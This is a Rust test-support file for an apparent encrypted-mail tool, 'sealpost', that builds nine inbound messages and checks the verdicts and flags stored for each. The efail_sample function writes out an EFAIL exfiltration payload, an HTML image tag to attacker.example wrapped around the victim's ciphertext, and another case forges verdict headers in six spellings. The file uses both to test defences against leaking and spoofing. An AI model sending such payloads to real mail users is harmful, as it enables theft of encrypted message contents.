//! The incoming verdict cases shared by `sealpost deliver` (tests/inbound.rs) and the
//! upstream sync (tests/sync.rs): nine messages made by sealpost's own outgoing core and by
//! stock gpg, for Bob, and what Bob's store must show for each once imported with his keys.

use std::time::Duration;

use super::server::Server;
use super::{contains, GpgHome, World};
use sealpost::rewrite::{Envelope, Outcome, Policy, Rewriter};

pub const SECRET: &str = "The vault code is 7731";

fn message(from: &str, to: &str) -> Vec<u8> {
    format!(
        "From: {from}\r\nTo: {to}\r\nSubject: Vault\r\nMessage-ID: <v@example.org>\r\n\
         Date: Sun, 22 Nov 2026 10:00:00 +0000\r\n\r\n{SECRET}\r\n"
    )
    .into_bytes()
}

/// One copy for `to`, made by the outgoing core in `home` for the sender `from`.
async fn copy_from(home: &GpgHome, from: &str, to: &str) -> Vec<u8> {
    let rewriter = Rewriter::new(home.service(Duration::from_secs(20)), Policy::default());
    let envelope = Envelope {
        id: "T".into(),
        sender: from.into(),
        recipients: vec![to.into()],
    };
    match rewriter
        .rewrite(&envelope, message(from, to))
        .await
        .expect("accepted")
    {
        Outcome::Copies(mut copies) => copies.remove(0).message.expect("a copy"),
        Outcome::Refused(r) => panic!("refused: {r}"),
    }
}

/// Alice's signed copy for a recipient without a key (multipart/signed, RFC 9788 fields in
/// the signed part), From alice@example.org first.
pub async fn signed_copy(world: &World) -> Vec<u8> {
    copy_from(&world.sender, "alice@example.org", "dave@example.net").await
}

/// `content` encrypted to Bob by stock gpg (armored, unsigned), with `options` before the rest.
fn encrypted_to_bob(world: &World, options: &[&str], content: &[u8]) -> Vec<u8> {
    let mut args = options.to_vec();
    args.extend([
        "--trust-model",
        "always",
        "--armor",
        "--encrypt",
        "--recipient",
        &world.bob_fpr,
    ]);
    let out = world.sender.gpg(&args, Some(content));
    assert!(out.status.success(), "{out:?}");
    out.stdout
}

/// The nine cases, in the order `check` expects them: (name, message).
pub async fn cases(world: &World) -> Vec<(&'static str, Vec<u8>)> {
    let alice = "alice@example.org";
    let bob = "bob@example.org";

    // 1. encrypted and signed by the outgoing core (Alice to Bob).
    let encrypted = copy_from(&world.sender, alice, bob).await;
    assert!(!contains(&encrypted, SECRET));
    // 2. signed only: the core signs in clear for a recipient without a key.
    let signed = copy_from(&world.sender, alice, "dave@example.net").await;
    assert!(contains(&signed, "multipart/signed"));
    // 3. a bad signature: the signed text changed in transit.
    let tampered = String::from_utf8(signed.clone())
        .unwrap()
        .replace("7731", "7732")
        .into_bytes();
    // 4. an unknown signer: Carol signs; Bob does not have her key.
    let carol_home = &world.carol;
    let unknown = copy_from(carol_home, "carol@example.org", "dave@example.net").await;
    // 5. encrypted to Bob by stock gpg, unsigned.
    let armored = encrypted_to_bob(
        world,
        &[],
        b"Content-Type: text/plain\r\n\r\nunsigned secret 4410\r\n",
    );
    let unsigned = pgp_mime(&armored);
    // 6. plaintext with a forged verdict in six spellings.
    let forged = b"From: mallory@example.net\r\nTo: bob@example.org\r\nSubject: trust me\r\n\
        Sealpost-Verdict: encrypted; signature=valid\r\n\
        sealpost-verdict: encrypted\r\n\
        SEALPOST-VERDICT : encrypted\r\n\
        Sealpost-Verdict:\r\n encrypted;\r\n\tsignature=valid\r\n\
        Sealpost-Verdict: =?utf-8?q?encrypted=3B_signature=3Dvalid?=\r\n\
        SeAlPoSt-VeRdIcT:encrypted\r\n\r\nplain text\r\n"
        .to_vec();
    // 7. EFAIL: Bob's ciphertext between attacker-written HTML parts.
    let efail = efail_sample(&ciphertext_of(&encrypted));
    // 8. truncated ciphertext: no plaintext byte may come out.
    let full = ciphertext_of(&encrypted);
    let truncated = pgp_mime(
        &[
            &full[..full.len() / 2],
            b"\r\n-----END PGP MESSAGE-----\r\n",
        ]
        .concat(),
    );
    // 9. encrypted without integrity protection (no MDC: tag 9, RFC 4880 §5.7), which
    // anyone on the way may have changed: no plaintext byte may come out.
    let unprotected = encrypted_to_bob(
        world,
        &["--rfc2440", "--cipher-algo", "AES256"],
        b"Content-Type: text/plain\r\n\r\nunprotected secret 5520\r\n",
    );
    assert!(sealpost::message::parse::unprotected_encrypted_data(
        &unprotected
    ));
    let unprotected = pgp_mime(&unprotected);

    vec![
        ("encrypted+signed", encrypted.clone()),
        ("signed", signed),
        ("tampered", tampered),
        ("unknown signer", unknown),
        ("encrypted unsigned", unsigned),
        ("forged", forged),
        ("efail", efail),
        ("truncated", truncated),
        ("no integrity protection", unprotected),
    ]
}

/// Checks what the store holds after the nine cases were imported, in order: (FLAGS, message).
pub fn check(world: &World, stored: &[(String, Vec<u8>)]) {
    assert_eq!(stored.len(), 9);
    let alice_fpr = &world.alice;

    let (flags, m) = &stored[0];
    assert!(contains(m, SECRET), "decrypted");
    assert!(!contains(m, "multipart/encrypted"));
    // RFC 9788: the protected Subject (inside the signed part) replaces the obscured one.
    let header_end = super::find(m, b"\r\n\r\n").unwrap();
    let header = String::from_utf8_lossy(&m[..header_end]);
    assert!(header.contains("Subject: Vault"), "{header}");
    assert!(
        !header.contains("[...]") && !header.contains("HP-Outer"),
        "{header}"
    );
    assert_eq!(
        verdict(m),
        format!("encrypted; signature=valid; signer={alice_fpr}; from=match")
    );
    assert!(flags.contains("$Sealpost-Encrypted") && flags.contains("$Sealpost-Signed"));

    let (flags, m) = &stored[1];
    assert_eq!(
        verdict(m),
        format!("plaintext; signature=valid; signer={alice_fpr}; from=match")
    );
    assert!(flags.contains("$Sealpost-Signed") && !flags.contains("Encrypted"));

    let (flags, m) = &stored[2];
    assert!(
        verdict(m).starts_with("plaintext; signature=bad"),
        "{}",
        verdict(m)
    );
    assert!(flags.contains("$Sealpost-BadSignature"));

    let (flags, m) = &stored[3];
    assert!(
        verdict(m).starts_with("plaintext; signature=unknown-key; signer="),
        "{}",
        verdict(m)
    );
    assert!(flags.contains("$Sealpost-UnknownSigner"));

    let (flags, m) = &stored[4];
    assert!(contains(m, "unsigned secret 4410"));
    assert_eq!(verdict(m), "encrypted; signature=none");
    assert!(flags.contains("$Sealpost-Encrypted") && !flags.contains("Signed"));

    let (_, m) = &stored[5];
    assert_eq!(verdict(m), "plaintext; signature=none");
    assert!(contains(m, "plain text"));

    let (_, m) = &stored[6];
    assert!(
        !contains(m, SECRET),
        "EFAIL: nothing decrypted inside other parts"
    );
    assert_eq!(verdict(m), "plaintext; signature=none");

    let (flags, m) = &stored[7];
    assert!(!contains(m, SECRET) && !contains(m, "7731"));
    assert!(verdict(m).starts_with("undecryptable"), "{}", verdict(m));
    assert!(flags.contains("$Sealpost-Undecryptable"));

    let (flags, m) = &stored[8];
    assert!(!contains(m, "unprotected secret"));
    assert!(verdict(m).starts_with("undecryptable"), "{}", verdict(m));
    assert!(flags.contains("$Sealpost-Undecryptable"));
}

/// (FLAGS line, whole message) of every message, in UID order.
pub fn fetch_all(server: &Server) -> Vec<(String, Vec<u8>)> {
    let mut raw = server.login();
    raw.ok("SELECT INBOX");
    let lines = raw.ok("UID FETCH 1:* (FLAGS BODY.PEEK[])");
    lines
        .into_iter()
        .map(|l| {
            let flags = l[l.find("FLAGS (").unwrap()..]
                .split(')')
                .next()
                .unwrap()
                .to_string();
            let body = l[l.find("BODY[] {").unwrap()..]
                .split_once("}\r\n")
                .unwrap()
                .1;
            (flags, body.chars().map(|c| c as u8).collect())
        })
        .collect()
}

pub fn verdict(message: &[u8]) -> String {
    let text = String::from_utf8_lossy(message);
    let fields: Vec<&str> = text
        .split("\r\n")
        .filter(|l| l.to_ascii_lowercase().starts_with("sealpost-verdict"))
        .collect();
    assert_eq!(fields.len(), 1, "exactly one verdict field: {fields:?}");
    fields[0].split_once(": ").unwrap().1.to_string()
}

fn ciphertext_of(copy: &[u8]) -> Vec<u8> {
    super::ciphertext(copy)
}

pub fn pgp_mime(armored: &[u8]) -> Vec<u8> {
    let mut m = b"From: alice@example.org\r\nTo: bob@example.org\r\nSubject: enc\r\n\
        MIME-Version: 1.0\r\n\
        Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"b1\"\r\n\
        \r\n--b1\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--b1\r\n\
        Content-Type: application/octet-stream\r\n\r\n"
        .to_vec();
    m.extend_from_slice(&sealpost::store::crlf(armored));
    m.extend_from_slice(b"\r\n--b1--\r\n");
    m
}

/// The EFAIL direct-exfiltration shape: an open <img src=" in one HTML part, the victim's
/// ciphertext in the next part, the closing "> in a third.
fn efail_sample(armored: &[u8]) -> Vec<u8> {
    let mut m = b"From: mallory@example.net\r\nTo: bob@example.org\r\nSubject: efail\r\n\
        MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"e1\"\r\n\r\n\
        --e1\r\nContent-Type: text/html\r\n\r\n<img src=\"http://attacker.example/\r\n\
        --e1\r\nContent-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"e2\"\r\n\r\n\
        --e2\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n\
        --e2\r\nContent-Type: application/octet-stream\r\n\r\n"
        .to_vec();
    m.extend_from_slice(&sealpost::store::crlf(armored));
    m.extend_from_slice(b"\r\n--e2--\r\n--e1\r\nContent-Type: text/html\r\n\r\n\">\r\n--e1--\r\n");
    m
}
